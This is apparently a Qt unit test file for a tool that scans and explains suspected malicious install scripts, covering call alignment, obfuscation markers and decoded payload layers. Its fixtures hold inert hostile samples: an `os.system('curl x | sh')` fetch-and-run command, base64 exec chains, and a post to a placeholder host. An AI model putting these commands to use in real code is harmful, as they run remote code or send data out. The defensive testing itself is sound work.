// What the side-by-side view and the explanation compute: call comparison and alignment, layout markers, the
// explanation text, script views, and scan options from the settings.
#include "call_alignment.h"
#include "code_sources.h"
#include "explanation_html.h"
#include "layout_markers.h"
#include "scan_fixture.h"
#include "script_indicators.h"
#include "script_view.h"
#include "workbench_settings.h"

#include <QTest>

using namespace mph::app;

namespace {
std::vector<mph::CallToken> calls(std::initializer_list<const char *> names) {
    std::vector<mph::CallToken> result;
    for (const char *name : names)
        result.push_back({name, 0, 0});
    return result;
}
} // namespace

class TestCodeHelpers : public QObject {
    Q_OBJECT
  private slots:
    void comparison() {
        const auto left = calls({"os.system", "open", "request.urlopen", "exec"});
        const auto right = calls({"request.urlopen", "base64.b64decode", "exec", "os.system"});
        const CallComparison c = compareCalls(left, right);
        QCOMPARE(c.sharedLeft, (std::vector<bool>{true, false, true, true}));
        QCOMPARE(c.sharedRight, (std::vector<bool>{true, false, true, true}));
        // LCS = urlopen, exec
        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, -1}, {1, -1}, {2, 0}, {-1, 1}, {3, 2}, {-1, 3}}));
        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{3, -1, 0, 2})); // os.system: not aligned, first by name
        QCOMPARE(c.counterpartOfRight, (std::vector<int>{2, -1, 3, 0}));
    }

    void comparisonWithEmptySide() {
        const CallComparison c = compareCalls(calls({"exec"}), {});
        QCOMPARE(c.sharedLeft, (std::vector<bool>{false}));
        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, -1}}));
        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{-1}));
    }

    void alignmentCapLeavesTheRestAsGaps() {
        const CallComparison c = compareCalls(calls({"a", "b", "c"}), calls({"a", "b", "c"}), 2);
        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, 0}, {1, 1}, {2, -1}, {-1, 2}}));
        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{0, 1, 2}));
    }

    void layoutMarkers() {
        const QString hidden = QStringLiteral("x = 1") + QString(130, QLatin1Char(' ')) + QStringLiteral("exec(p)");
        const QString text = QStringLiteral("import os\n") + QString(201, QLatin1Char('a')) + QStringLiteral("\n") +
                             hidden + QStringLiteral("\r\nok = 1\n") + QStringLiteral("s = 'abc\u202Edef'\n") +
                             QStringLiteral("t = 1\u200B\n");
        const std::vector<LayoutMarker> markers = findLayoutMarkers(text);
        const std::vector<LayoutMarker> expected{
            {1, 200, LayoutIssue::LongLine},
            {2, 135, LayoutIssue::HiddenPastWhitespace},
            {4, 8, LayoutIssue::BidiControl},
            {5, 5, LayoutIssue::ControlCharacter},
        };
        QCOMPARE(markers, expected);
    }

    // Obfuscators' names are marked where they start, one marker per line; strings, comments, numbers and ordinary
    // names holding the same letters are not.
    void confusableIdentifiers() {
        const QString text = QStringLiteral("import os as O0O0OO\n"                         // 0
                                            "l1lI1l = OO0 = 1\n"                            // 1
                                            "x = 000000 + 0x1l1 + 1.0\n"                    // 2: numbers
                                            "s = 'IIlIll O0O0' # l1lI1l\n"                  // 3: string, comment
                                            "t = \"\"\"\nIlIl\n\"\"\"; fileInfo = level1\n" // 4-6: triple string
                                            "def f(\u00e9, _0O): return IIlIll(r'l1')\n");  // 7
        const std::vector<LayoutMarker> expected{
            {0, 13, LayoutIssue::ConfusableIdentifier},
            {1, 0, LayoutIssue::ConfusableIdentifier},
            {7, 9, LayoutIssue::ConfusableIdentifier},
        };
        QCOMPARE(findLayoutMarkers(text), expected);
        for (const char *name : {"O0O0OO", "l1lI1l", "IIlIll", "_0O", "Il", "O_0"})
            QVERIFY2(isConfusableIdentifier(QString::fromLatin1(name)), name);
        for (const char *name : {"OO", "llll", "I", "fileInfo", "level1", "IsLocal", "O1", "_", "__", "OOo0"})
            QVERIFY2(!isConfusableIdentifier(QString::fromLatin1(name)), name);
        QVERIFY(!layoutIssueDescription(LayoutIssue::ConfusableIdentifier).isEmpty());
    }

    void layoutMarkersIgnoreOrdinaryCode() {
        const QString text = QStringLiteral("\uFEFFdef f():\n\treturn 'ünïcode'  # fine\n") +
                             QString(119, QLatin1Char(' ')) + QStringLiteral("x\n");
        QVERIFY(findLayoutMarkers(text).empty());
        QVERIFY(findLayoutMarkers(QString()).empty());
    }

    void explanationNamesTheParts() {
        const auto scan = mph::test::makeScanFixture();
        const QString html = explanationHtml(*scan, 0);
        QVERIFY(html.contains(QStringLiteral("alpha 1.0: alpha-1.0/setup.py")));
        QVERIFY(html.contains(QStringLiteral("0.9125")));
        QVERIFY(html.contains(QStringLiteral("0.1250")));
        QVERIFY(html.contains(QStringLiteral("<code>os.system</code>")));
        QVERIFY(html.contains(QStringLiteral("evil 6.6: evil-6.6/setup.py")));
        QVERIFY(html.contains(QStringLiteral("request.urlopen"))); // the known side of the alignment
        const QString noKnown = explanationHtml(*scan, 2);
        QVERIFY(noKnown.contains(QStringLiteral("No known-malicious script to compare with.")));
        QVERIFY(explanationHtml(*scan, 99).isEmpty());

        // Ranked without the known set, the contrastive score shows its rarity term (and no evidence).
        mph::ScanResult outlier = *scan;
        outlier.rankingMethod = mph::RankingMethod::Contrastive;
        outlier.knownDistanceUsed = false;
        outlier.ranking[0].rarity = 0.8125;
        outlier.ranking[0].capability = 0.6875;
        outlier.ranking[0].capabilityCall = "base64.b64decode";
        const QString rarity = explanationHtml(outlier, 0);
        QVERIFY2(rarity.contains(QStringLiteral("d_k/2 + 0.3 · rarity + 0.2 · capability (no known set)")),
                 qPrintable(rarity));
        QVERIFY(rarity.contains(QStringLiteral("0.8125")));
        // The capability term names the call it is the rarity of.
        QVERIFY(rarity.contains(QStringLiteral("<b>capability</b>")) && rarity.contains(QStringLiteral("0.6875")));
        QVERIFY2(rarity.contains(QStringLiteral("rarest capability call, base64.b64decode,")), qPrintable(rarity));
        QVERIFY(rarity.contains(QStringLiteral("<b>rarity</b>")) &&
                !rarity.contains(QStringLiteral("<b>evidence</b>")));
        QVERIFY(!html.contains(QStringLiteral("<b>rarity</b>"))); // ranked with the known set: no rarity row
        // Known set asked for but no known script to compare with (row 2): scored, and explained, as without one.
        outlier.knownDistanceUsed = true;
        QVERIFY(explanationHtml(outlier, 2)
                    .contains(QStringLiteral("d_k/2 + 0.3 · rarity + 0.2 · capability (no known set)")));
    }

    // beta's __init__.py imports beta/_hooks.py, which posts to https://x.invalid: the explanation lists the URL and
    // its host under Indicators, with the file it was read in. alpha's script has none: no section.
    void explanationListsIndicators() {
        const auto scan = mph::test::makeScanFixture();
        std::size_t beta = scan->ranking.size();
        for (std::size_t i = 0; i < scan->ranking.size(); ++i)
            if (scan->ranking[i].entry == 2) beta = i;
        QVERIFY(beta < scan->ranking.size());
        const QString html = explanationHtml(*scan, beta);
        QVERIFY2(html.contains(QStringLiteral("<h3>Indicators</h3>")), qPrintable(html));
        QVERIFY(html.contains(QStringLiteral("<td><i>URL</i></td><td><code>https://x.invalid</code></td><td><small "
                                             "style=\"color:#707070\">beta/_hooks.py</small>")));
        QVERIFY(html.contains(QStringLiteral("<td><i>domain</i></td><td><code>x.invalid</code>")));
        QVERIFY(!explanationHtml(*scan, 0).contains(QStringLiteral("Indicators")));
        const ScriptIndicators found = scriptIndicators(*scan, 2);
        QCOMPARE(found.all.urls, std::vector<std::string>{"https://x.invalid"});
        QCOMPARE(found.found.size(), std::size_t(2));
        QCOMPARE(found.found[0].places, QStringList{"beta/_hooks.py"});
    }

    void scriptViews() {
        const auto scan = mph::test::makeScanFixture();
        const ScriptTextSource texts(scan, {"infected"});
        const ScriptView alpha = makeScriptView(*scan, texts, 0);
        QCOMPARE(alpha.title, QStringLiteral("alpha 1.0: alpha-1.0/setup.py"));
        QCOMPARE(alpha.text, QByteArray("import os\nos.system('curl x | sh')\n"));
        QCOMPARE(alpha.text.mid(alpha.calls[0].begin, alpha.calls[0].end - alpha.calls[0].begin),
                 QByteArray("os.system"));
        QVERIFY(alpha.error.isEmpty());
        // The known package's text was dropped and its archive does not exist: a clear error, no text.
        const ScriptView evil = makeScriptView(*scan, texts, 4);
        QVERIFY(evil.text.isEmpty());
        QVERIFY(!evil.error.isEmpty());
        QCOMPARE(evil.calls.size(), std::size_t(2));
    }

    // beta's __init__.py runs two decoded layers and its package's beta/_hooks.py: one document for each, every call's
    // range in its own document's text, labels and a banner that say where each lives.
    void scriptViewDocuments() {
        const auto scan = mph::test::makeScanFixture();
        const ScriptTextSource texts(scan, {});
        const ScriptView beta = makeScriptView(*scan, texts, 2);
        QCOMPARE(beta.documents.size(), std::size_t(4));
        QCOMPARE(beta.documents[0].text, beta.text);
        QCOMPARE(beta.documents[1].text, QByteArray("import base64\n\nexec(base64.b64decode('cHJpbnQoKQ=='))\n"));
        QCOMPARE(beta.documents[2].text, QByteArray("print()\n"));
        QCOMPARE(beta.documents[3].text,
                 QByteArray("import requests\n\nrequests.post('https://x.invalid', data=b'')\n"));
        const QStringList expected{"base64.b64decode", "exec", "base64.b64decode", "exec", "print", "requests.post"};
        QCOMPARE(beta.calls.size(), std::size_t(expected.size()));
        for (std::size_t k = 0; k < beta.calls.size(); ++k) {
            const mph::CallToken &call = beta.calls[k];
            const QByteArray &text = beta.documents[call.source].text;
            QCOMPARE(QString::fromUtf8(text.mid(call.begin, call.end - call.begin)), expected[int(k)]);
        }
        QCOMPARE(beta.calls[5].source, 3u);

        const SourcePlace &layer2 = beta.documents[2].place;
        QCOMPARE(layer2.layer, 2u);
        QCOMPARE(layer2.parentLine, 3); // layer 1's exec
        QCOMPARE(layer2.fileLine, 2);   // the __init__.py exec that starts the chain
        QCOMPARE(documentLabel(beta.documents[0], true), QStringLiteral("beta/__init__.py (script)"));
        QCOMPARE(documentLabel(beta.documents[3], false), QStringLiteral("beta/_hooks.py (1 call(s))"));
        QCOMPARE(documentLabel(beta.documents[2], false),
                 QStringLiteral("layer 2 in beta/__init__.py, line 2 (1 call(s))"));
        QCOMPARE(documentBanner(beta, 1),
                 QStringLiteral("Decoded payload, layer 1: decoded in beta/__init__.py and run at its line 2. Shown as "
                                "text, never run."));
        QCOMPARE(documentBanner(beta, 2),
                 QStringLiteral("Decoded payload, layer 2: decoded in beta/__init__.py, run at line 3 of layer 1, "
                                "whose chain starts at line 2 of the file. Shown as text, never run."));
        QVERIFY(documentBanner(beta, 0).isEmpty());
        QVERIFY(documentBanner(beta, 3).isEmpty());
        QCOMPARE(placeName(layer2), QStringLiteral("beta-2.0/beta/__init__.py (layer 2)"));
        QCOMPARE(placeName(beta.documents[3].place), QStringLiteral("beta-2.0/beta/_hooks.py"));
        mph::ScanResult noSlash = *scan; // roots are stored with or without their final slash
        noSlash.packages[1].root = "beta-2.0";
        QCOMPARE(sourcePlaces(noSlash, 2)[3].shortPath, QStringLiteral("beta/_hooks.py"));
        noSlash.packages[1].root = "beta-2";
        QCOMPARE(sourcePlaces(noSlash, 2)[3].shortPath, QStringLiteral("beta-2.0/beta/_hooks.py"));

        // A script that runs nothing else is one document; a known script whose text is gone keeps its error.
        QCOMPARE(makeScriptView(*scan, texts, 0).documents.size(), std::size_t(1));
        const ScriptView evil = makeScriptView(*scan, texts, 4);
        QCOMPARE(evil.documents.size(), std::size_t(1));
        QCOMPARE(evil.documents[0].error, evil.error);
    }

    void explanationListsRuns() {
        const auto scan = mph::test::makeScanFixture();
        const QString html = explanationHtml(*scan, 2);
        QVERIFY2(html.contains(QStringLiteral("<h3>Runs</h3>")), qPrintable(html));
        QVERIFY2(
            html.contains(QStringLiteral("<tr><td><code>beta/__init__.py</code> line 2</td><td><i>decoded payload, "
                                         "layer 1</i></td><td align=right>2 call(s)</td></tr>")),
            qPrintable(html));
        QVERIFY(html.contains(QStringLiteral("<i>decoded payload, layer 2</i></td><td align=right>1 call(s)")));
        QVERIFY(html.contains(QStringLiteral("<tr><td><code>beta/_hooks.py</code></td><td><i>file of the "
                                             "package</i></td><td align=right>1 call(s)</td></tr>")));
        QVERIFY(!explanationHtml(*scan, 0).contains(QStringLiteral("Runs"))); // alpha runs nothing else
        // Aligned calls link to their place in the code view, and say where they live when not in the script.
        const QString alpha = explanationHtml(*scan, 0);
        QVERIFY2(alpha.contains(QStringLiteral("<a href=\"call:0\"")), qPrintable(alpha));
        QVERIFY(alpha.contains(QStringLiteral("<a href=\"known-call:1\"")));
    }

    void scanOptionsFromSettings() {
        WorkbenchSettings settings;
        settings.backgroundFolders = {QStringLiteral("/data/benign"), QStringLiteral(" ")};
        settings.knownFolders = {QStringLiteral("/data/known")};
        settings.passphrases = {QStringLiteral("infected"), QStringLiteral("s3cret")};
        const mph::ScanOptions options = scanOptionsForFolder(QStringLiteral("/data/batch/"), settings);
        QCOMPARE(options.batches.size(), std::size_t(1));
        QCOMPARE(options.batches[0].name, std::string("/data/batch"));
        QCOMPARE(options.batches[0].roots, (std::vector<std::filesystem::path>{"/data/batch"}));
        QCOMPARE(options.background, (std::vector<std::filesystem::path>{"/data/benign"}));
        QCOMPARE(options.known, (std::vector<std::filesystem::path>{"/data/known"}));
        QCOMPARE(options.passphrases, (std::vector<std::string>{"infected", "s3cret"}));
        QVERIFY(!options.demo);
        QVERIFY(demoScanOptions().demo);

        WorkbenchSettings recent;
        for (int i = 0; i < 12; ++i)
            recent.addRecent(QStringLiteral("/f%1").arg(i));
        recent.addRecent(QStringLiteral("/f5/"));
        QCOMPARE(recent.recentFolders.size(), WorkbenchSettings::kMaxRecent);
        QCOMPARE(recent.recentFolders.first(), QStringLiteral("/f5"));
        QCOMPARE(recent.recentFolders.count(QStringLiteral("/f5")), 1);
    }
};

QTEST_GUILESS_MAIN(TestCodeHelpers)
#include "tst_code_helpers.moc"
